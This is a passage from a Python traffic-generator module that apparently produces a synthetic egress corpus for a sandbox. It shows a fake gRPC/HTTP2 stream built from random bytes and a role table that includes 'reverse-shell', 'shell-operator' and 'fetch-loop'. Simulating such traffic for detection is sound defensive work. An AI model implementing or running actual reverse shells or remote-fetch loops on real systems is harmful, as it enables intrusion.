                out += _grpc_msg(int(rng.lognormvariate(size_mu, 1.0)))
            next_msg = t + rng.expovariate(rate)
        if t >= next_ping:
            out += _h2_frame(H2_PING, 0, 0, os.urandom(8))
            next_ping = t + keepalive
        if out:
            s.setblocking(True)
            s.sendall(out)
            s.setblocking(False)


def grpc_stream(a) -> None:
    """--listen: the service; --connect: the sandbox's client opening one streaming call."""
    rng = random.Random(a.seed)
    end = time.time() + a.duration
    if a.listen:
        s = _accept_one(a)
        if a.tls:
            ctx = _server_tls(a.cert_dir)
            ctx.set_alpn_protocols(["h2"])
            s = ctx.wrap_socket(s, server_side=True)
        s.recv(len(H2_PREFACE))
        s.sendall(_h2_frame(H2_SETTINGS, 0, 0, struct.pack("!HI", 3, 100) + struct.pack("!HI", 4, 1 << 20)))
        _grpc_talk(s, rng, end, server=True)
    else:
        host, port = _hostport(a.connect)
        s = socket.create_connection((host, port), timeout=10)
        if a.tls:
            ctx = _client_tls()
            ctx.set_alpn_protocols(["h2"])
            s = ctx.wrap_socket(s, server_hostname="svc.test")
        headers = os.urandom(rng.randint(60, 140))          # an HPACK block: :path /pkg.Service/Watch ...
        s.sendall(H2_PREFACE + _h2_frame(H2_SETTINGS, 0, 0, struct.pack("!HI", 2, 0))
                  + _h2_frame(H2_HEADERS, 4, 1, headers))
        _grpc_talk(s, rng, end, server=False)
    s.close()


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(prog="egress.corpus.programs")
    ap.add_argument("role")
    ap.add_argument("--listen")
    ap.add_argument("--connect")
    ap.add_argument("--to")
    ap.add_argument("--tls", action="store_true")
    ap.add_argument("--cert-dir")
    ap.add_argument("--root")
    ap.add_argument("--pattern", default="bulk")
    ap.add_argument("--push-interval", type=float, default=2.0)
    ap.add_argument("--seed", type=int, default=0)
    ap.add_argument("--duration", type=float, default=10.0)
    ap.add_argument("--initial-wait", type=float, default=1.0)
    ap.add_argument("--by-key", action="store_true")
    a = ap.parse_args(argv)
    roles = {"web-server": web_server, "web-client": web_client, "dns-server": dns_server,
             "dns-client": dns_client, "typist": typist, "reverse-shell": reverse_shell,
             "shell-operator": shell_operator, "relay": relay, "accept-pipe": accept_pipe,
             "fetch-loop": fetch_loop, "p2p-node": p2p_node, "grpc-stream": grpc_stream}
    if a.role not in roles:
        ap.error("unknown role %s" % a.role)
    try:
        roles[a.role](a)
    except (OSError, ValueError) as exc:
        print("%s: %s" % (a.role, exc), file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
